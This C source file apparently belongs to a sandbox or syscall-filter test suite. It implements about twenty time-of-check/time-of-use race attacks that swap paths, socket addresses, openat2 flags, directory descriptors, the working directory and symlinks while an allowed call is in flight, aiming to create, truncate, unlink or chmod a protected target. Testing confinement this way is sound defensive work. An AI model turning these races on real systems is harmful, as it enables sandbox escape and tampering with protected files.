/* SPDX-License-Identifier: Apache-2.0 */
/* Races: while one thread makes a call that is allowed, another swaps what the
 * call means. The argument is the name that must not change. Each runs for
 * RACE_MS milliseconds (default 500) and succeeds when it could run at all. */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

#define CREATE (O_WRONLY | O_CREAT)

static char path[256];	   /* what the swapping thread writes */
static const char *target; /* what must not change */
static const char *harmless = "aux.harmless";
static atomic_bool stop;
static int shared_fd, fd_a, fd_b;

long long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000LL + t.tv_nsec / 1000000;
}

bool race_over(void)
{
	return stop;
}

long race_for(void (*swap)(void), void (*round)(void))
{
	const char *ms = getenv("RACE_MS");
	long long end = now_ms() + (ms ? atoi(ms) : 500);
	pthread_t t;
	long n = 0;

	if (pthread_create(&t, NULL, (void *(*)(void *))(void *)swap, NULL))
		return -1;
	while (now_ms() < end) {
		round();
		n++;
	}
	stop = true;
	pthread_join(t, NULL);
	printf("rounds %ld\n", n);
	return 0;
}

static void put(const char *s)
{
	/* as a careless string is written: byte by byte, end first */
	volatile char *p = path;
	size_t n = strlen(s) + 1;

	while (n--)
		p[n] = s[n];
}

static void swap_path(void)
{
	while (!race_over()) {
		put(harmless);
		put(target);
	}
}

static void close_fd(long fd)
{
	if (fd >= 0)
		close((int)fd);
}

static void round_open(void)
{
	close_fd(open(path, CREATE, 0644));
	unlink(harmless);
}

static void round_openat2(void)
{
	close_fd(raw_openat2(AT_FDCWD, path, CREATE, 0644, 0));
	unlink(harmless);
}

static void round_creat(void)
{
	close_fd(creat(path, 0644));
	unlink(harmless);
}

static void round_mkdir(void)
{
	mkdir(path, 0755);
	rmdir(harmless);
}

static void round_mknod(void)
{
	mknod(path, S_IFREG | 0644, 0);
	unlink(harmless);
}

static void round_symlink(void)
{
	symlink("/etc/hostname", path);
	unlink(harmless);
}

static void round_link(void)
{
	link(aux_file(), path);
	unlink(harmless);
}

static void round_rename(void)
{
	rename(aux_file(), path);
	unlink(harmless);
}

static void round_truncate(void)
{
	truncate(path, 0);
	close_fd(open(harmless, CREATE, 0644));
}

static void round_unlink(void)
{
	close_fd(open(harmless, CREATE, 0644));
	unlink(path);
}

static void round_chmod(void)
{
	close_fd(open(harmless, CREATE, 0644));
	chmod(path, 0777);
}

#define FLIP(fn, round)                            \
	static long fn(const char *p)              \
	{                                          \
		target = p;                        \
		put(harmless);                     \
		return race_for(swap_path, round); \
	}

FLIP(c_open, round_open)
FLIP(c_openat2, round_openat2)
FLIP(c_creat, round_creat)
FLIP(c_mkdir, round_mkdir)
FLIP(c_mknod, round_mknod)
FLIP(c_symlink, round_symlink)
FLIP(c_link, round_link)
FLIP(c_rename, round_rename)
FLIP(c_truncate, round_truncate)
FLIP(c_unlink, round_unlink)
FLIP(c_chmod, round_chmod)

/* The socket's address itself is swapped while bind(2) is on its way. */
static struct sockaddr_un flip_addr = { .sun_family = AF_UNIX };

static void swap_addr(void)
{
	while (!race_over()) {
		memcpy(flip_addr.sun_path, harmless, strlen(harmless) + 1);
		memcpy(flip_addr.sun_path, target, strlen(target) + 1);
	}
}

static void round_bind_addr(void)
{
	int s = socket(AF_UNIX, SOCK_STREAM, 0);

	bind(s, (struct sockaddr *)&flip_addr, sizeof(flip_addr));
	close(s);
	unlink(harmless);
}

static long c_bind(const char *p)
{
	target = p;
	return race_for(swap_addr, round_bind_addr);
}

/* A family that is let through (inet) becomes a path. */
static void swap_family(void)
{
	while (!race_over()) {
		flip_addr.sun_family = AF_INET;
		flip_addr.sun_family = AF_UNIX;
	}
}

static long c_bind_family(const char *p)
{
	target = p;
	snprintf(flip_addr.sun_path, sizeof(flip_addr.sun_path), "%s", p);
	return race_for(swap_family, round_bind_addr);
}

/* openat2 reads its flags from memory. */
static struct {
	uint64_t flags, mode, resolve;
} how;

static void swap_how(void)
{
	while (!race_over()) {
		how.flags = O_RDONLY, how.mode = 0;
		how.mode = 0644, how.flags = CREATE;
	}
}

static void round_how(void)
{
	close_fd(syscall(SYS_openat2, AT_FDCWD, target, &how, sizeof(how)));
}

static long c_how(const char *p)
{
	target = p;
	return race_for(swap_how, round_how);
}

/* A directory changes places with a symlink to the protected one. */
static void swap_dirs(void)
{
	while (!race_over())
		syscall(SYS_renameat2, AT_FDCWD, "aux.d", AT_FDCWD, "aux.l", 2);
}

static void round_dirs(void)
{
	char buf[512];

	snprintf(buf, sizeof(buf), "aux.d/%s", base_of(target));
	close_fd(open(buf, CREATE, 0644));
	unlinkat(AT_FDCWD, "aux.l", 0);
	symlink(dir_of(target), "aux.l");
	mkdir("aux.d", 0755);
}

static long c_dirs(const char *p)
{
	target = p;
	mkdir("aux.d", 0755);
	symlink(dir_of(p), "aux.l");
	return race_for(swap_dirs, round_dirs);
}

/* The final symlink points to a harmless name and to the target by turns. */
static void swap_link(void)
{
	while (!race_over()) {
		symlink(harmless, "aux.t1");
		rename("aux.t1", "aux.l");
		symlink(target, "aux.t1");
		rename("aux.t1", "aux.l");
	}
}

static void round_final(void)
{
	close_fd(open("aux.l", CREATE, 0644));
	unlink(harmless);
}

static long c_final(const char *p)
{
	target = p;
	return race_for(swap_link, round_final);
}

/* The descriptor number means another directory by turns. */
static void swap_fd(void)
{
	while (!race_over()) {
		dup2(fd_a, shared_fd);
		dup2(fd_b, shared_fd);
	}
}

static void round_dirfd(void)
{
	close_fd(openat(shared_fd, base_of(target), CREATE, 0644));
}

static long c_dirfd(const char *p)
{
	target = p;
	mkdir("aux.d", 0755);
	fd_a = open("aux.d", O_RDONLY | O_DIRECTORY);
	fd_b = open(dir_of(p), O_RDONLY | O_DIRECTORY);
	shared_fd = dup(fd_a);
	return race_for(swap_fd, round_dirfd);
}

static void round_reopen(void)
{
	char buf[64];

	snprintf(buf, sizeof(buf), "/proc/self/fd/%d", shared_fd);
	close_fd(open(buf, O_WRONLY | O_TRUNC));
}

static long c_reopen(const char *p)
{
	target = p;
	fd_a = open(aux_file(), O_RDONLY);
	fd_b = open(p, O_RDONLY);
	shared_fd = dup(fd_a);
	return race_for(swap_fd, round_reopen);
}

/* Threads share the current directory. */
static void swap_cwd(void)
{
	while (!race_over()) {
		if (fchdir(fd_a) < 0 || fchdir(fd_b) < 0)
			return;
	}
}

static void round_cwd(void)
{
	close_fd(open(base_of(target), CREATE, 0644));
}

static long c_cwd(const char *p)
{
	target = p;
	mkdir("aux.d", 0755);
	fd_a = open("aux.d", O_RDONLY | O_DIRECTORY);
	fd_b = open(dir_of(p), O_RDONLY | O_DIRECTORY);
	return race_for(swap_cwd, round_cwd);
}

/* ".." of a directory that moves. */
static void swap_parent(void)
{
	while (!race_over()) {
		rename("aux.p/c", "aux.c");
		rename("aux.c", "aux.p/c");
	}
}

static void round_parent(void)
{
	char buf[512];

	snprintf(buf, sizeof(buf), "aux.p/c/../%s", base_of(target));
	close_fd(open(buf, CREATE, 0644));
}

static long c_parent(const char *p)
{
	target = p;
	mkdir("aux.p", 0755);
	mkdir("aux.p/c", 0755);
	return race_for(swap_parent, round_parent);
}

const struct form race_forms[] = {
	{ "path-open", c_open },
	{ "path-openat2", c_openat2 },
	{ "path-creat", c_creat },
	{ "path-mkdir", c_mkdir },
	{ "path-mknod", c_mknod },
	{ "path-symlink", c_symlink },
	{ "path-link", c_link },
	{ "path-rename", c_rename },
	{ "path-truncate", c_truncate },
	{ "path-unlink", c_unlink },
	{ "path-chmod", c_chmod },
	{ "sockaddr-bind", c_bind },
	{ "family-bind", c_bind_family },
	{ "open-how", c_how },
	{ "directory-symlink", c_dirs },
	{ "final-symlink", c_final },
	{ "dirfd", c_dirfd },
	{ "reopen", c_reopen },
	{ "cwd", c_cwd },
	{ "moving-parent", c_parent },
	{ NULL, NULL },
};
